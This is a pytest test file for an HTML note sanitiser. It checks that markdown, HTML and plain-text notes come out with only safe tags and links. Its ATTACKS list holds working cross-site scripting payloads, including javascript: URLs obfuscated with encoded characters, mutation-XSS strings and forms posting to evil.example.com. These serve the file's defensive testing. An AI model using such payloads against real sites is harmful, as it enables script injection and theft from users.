"""Nothing but harmless HTML gets into a note."""

import re
import sys
from subprocess import run
from time import process_time

import pytest
from inline_snapshot import snapshot

from server.errors import InvalidInput
from server.guardrails.note_html import MAX_NOTE, NoteFormat, NoteHtml, clean_note, to_note_html

ATTACKS = [
    "<script>alert(1)</script>",
    "<SCRIPT/SRC=//evil.example.com/x.js></SCRIPT>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<img src=x onerror=alert(1)>",
    "<p onclick=alert(1)>x</p>",
    '<a href="javascript:alert(1)">x</a>',
    '<a href="java&#x09;script:alert(1)">x</a>',
    '<a href="java&#8203;script:alert(1)">x</a>',
    '<a href=" &#14; javascript:alert(1)">x</a>',
    '<a href="data:text/html,<script>alert(1)</script>">x</a>',
    '<a href="vbscript:x">x</a>',
    '<a href="//evil.example.com">x</a>',
    '<a href="/reset?all=1">x</a>',
    '<a href="http://evil.example.com">x</a>',
    '<a href="http://[bad">x</a>',
    '<a href="https://ok.example.com" onmouseover=alert(1) style="position:fixed">x</a>',
    "<svg><script>alert(1)</script></svg>",
    "<svg onload=alert(1)>",
    '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<style>@import 'https://evil.example.com/x.css'</style>",
    "<form action=https://evil.example.com><input name=q><button>x</button></form>",
    "<meta http-equiv=refresh content=0><base href=https://evil.example.com><link rel=stylesheet href=x>",
    "<!--[if IE]><script>alert(1)</script><![endif]-->",
    "<table background=javascript:alert(1)><tr><td>x</table>",
    "<textarea></textarea><img src=x onerror=alert(1)>",
    "<p>\u202egnp.exe</p>\u200b\U000e0041&#x202e;&#xfeff;",
]
SAFE_TAG = re.compile(
    r"</?(?:b|blockquote|br|code|div|em|h3|h4|hr|i|li|ol|p|pre|s|strong|table|tbody|td|th|thead|tr|u|ul)>"
    r'|</a>|<a (?:href="(?:https:|mailto:|tel:)[^"<>]*" )?rel="noopener noreferrer nofollow">'
)


@pytest.mark.parametrize("format", ["html", "markdown", "text"])
@pytest.mark.parametrize("attack", ATTACKS)
def test_no_attack_leaves_more_than_harmless_tags_and_text(attack: str, format: NoteFormat) -> None:
    html = to_note_html(f"seen {attack}\n\n[{attack}]({attack})", format)

    rest = SAFE_TAG.sub("", html)
    assert "<" not in rest
    assert ">" not in rest
    assert "seen" in rest
    assert not re.search("[\u200b\u202e\ufeff\U000e0041\x0e]", html)


def test_ordinary_html_goes_through_as_it_is() -> None:
    html = (
        '<h3>Phone screen</h3><p>Knows <b>OSHA</b>,<br>see <a href="https://example.com/a?b=1&amp;c=2">licence</a>'
        "</p><ul><li>nights</li></ul><table><tbody><tr><td>18.50</td></tr></tbody></table>"
    )

    assert to_note_html(html, "html") == html.replace('c=2"', 'c=2" rel="noopener noreferrer nofollow"')


def test_blocks_outside_the_list_become_blocks_inside_it() -> None:
    assert clean_note("<H1>Screen</H1><section>one</section><article class=x>two</article><h6>end</h6>", "html") == (
        snapshot(
            NoteHtml(
                html="<h3>Screen</h3><div>one</div><div>two</div><h4>end</h4>",
                text="""\
Screen

one
two

end\
""",
                removed=(),
            )
        )
    )


def test_what_was_removed_is_named_once() -> None:
    note = (
        "<span class=x>hi</span>\u200b<script>1</script><script>2</script><img src=x onerror=y><!-- c -->"
        '<a href="ftp://x">l</a><a href="http://[bad">m</a><a href>n</a><a href="tel:5550142">o</a>'
    )

    assert clean_note(note, "html").removed == snapshot(
        (
            "invisible characters",
            "comment",
            "<script>",
            "<img>",
            "onerror handler",
            "link that is not https, mailto or tel",
        )
    )


def test_invisible_characters_written_as_references_are_removed_and_named() -> None:
    cleaned = clean_note("<p>a&#8203;b&#x202e;c</p>", "html")

    assert (cleaned.html, cleaned.removed) == ("<p>abc</p>", ("invisible characters",))


def test_line_ends_of_windows_are_not_reported_as_removed() -> None:
    assert clean_note("one\r\ntwo", "text").removed == ()


def test_markdown_becomes_html() -> None:
    note = (
        "# Screen\n\nKnows **OSHA** and ~~welding~~\nsee [licence](https://example.com)\n\n![photo](https://example.com/p)"
        "\n\n- nights\n- days\n\n| pay | bill |\n|--|:-:|\n| 18.50 | 27 |\n\n<b>typed</b> [x](javascript:alert(1))"
    )

    assert clean_note(note, "markdown") == snapshot(
        NoteHtml(
            html="""\
<h3>Screen</h3>
<p>Knows <strong>OSHA</strong> and <s>welding</s><br>
see <a href="https://example.com" rel="noopener noreferrer nofollow">licence</a></p>
<p>!<a href="https://example.com/p" rel="noopener noreferrer nofollow">photo</a></p>
<ul>
<li>nights</li>
<li>days</li>
</ul>
<table>
<thead>
<tr>
<th>pay</th>
<th>bill</th>
</tr>
</thead>
<tbody>
<tr>
<td>18.50</td>
<td>27</td>
</tr>
</tbody>
</table>
<p>&lt;b&gt;typed&lt;/b&gt; [x](javascript:alert(1))</p>\
""",
            text="""\
Screen

Knows OSHA and welding
see licence

!photo

- nights
- days

pay | bill
18.50 | 27

<b>typed</b> [x](javascript:alert(1))\
""",
            removed=(),
        )
    )


def test_plain_text_keeps_its_paragraphs_and_lines() -> None:
    assert to_note_html("  Called & left <message>.\nAgain at 5\r\n \n\nBack Monday ", "text") == snapshot(
        "<p>Called &amp; left &lt;message&gt;.<br>Again at 5</p><p>Back Monday</p>"
    )


def test_a_note_that_is_too_long_is_refused_with_both_numbers() -> None:
    assert to_note_html("x" * MAX_NOTE, "text")
    with pytest.raises(InvalidInput) as refused:
        to_note_html("x" * (MAX_NOTE + 1), "text")

    assert str(refused.value) == snapshot(
        "The note has 50,001 characters; at most 50,000 are taken. Nothing was written. "
        "Shorten it, or attach it as a file."
    )


@pytest.mark.parametrize(
    ("note", "format"),
    [
        ("", "text"),
        (" \n\t", "markdown"),
        ("&nbsp;<br><hr><p> </p>", "html"),
        ("\u200b\u2060", "text"),
        ("---", "markdown"),
    ],
)
def test_a_note_without_visible_text_is_refused(note: str, format: NoteFormat) -> None:
    with pytest.raises(InvalidInput, match="no visible text"):
        to_note_html(note, format)


def test_the_refusal_says_what_was_taken_out() -> None:
    with pytest.raises(InvalidInput) as refused:
        to_note_html("<script>alert(1)</script><!-- hi -->", "html")

    assert str(refused.value) == snapshot(
        "The note has no visible text without comment, <script>. Nothing was written: send some text."
    )


@pytest.mark.parametrize("trap", ["<a ", "<!--", "<a href='", "<a b=c ", "<b>", "&#", "<![CDATA[", "</"])
def test_markup_that_never_closes_costs_no_time(trap: str) -> None:
    started = process_time()

    assert clean_note("x" + trap * (40_000 // len(trap)), "html").html.startswith("x")
    assert process_time() - started < 5, "the parser of the standard library alone takes over 30 seconds for some"


def test_the_cleaners_are_loaded_with_the_first_note_and_not_before() -> None:
    check = "import sys, server.guardrails.note_html as n; sys.exit(bool({'nh3', 'markdown_it'} & set(sys.modules)))"

    assert run([sys.executable, "-c", check], check=False).returncode == 0
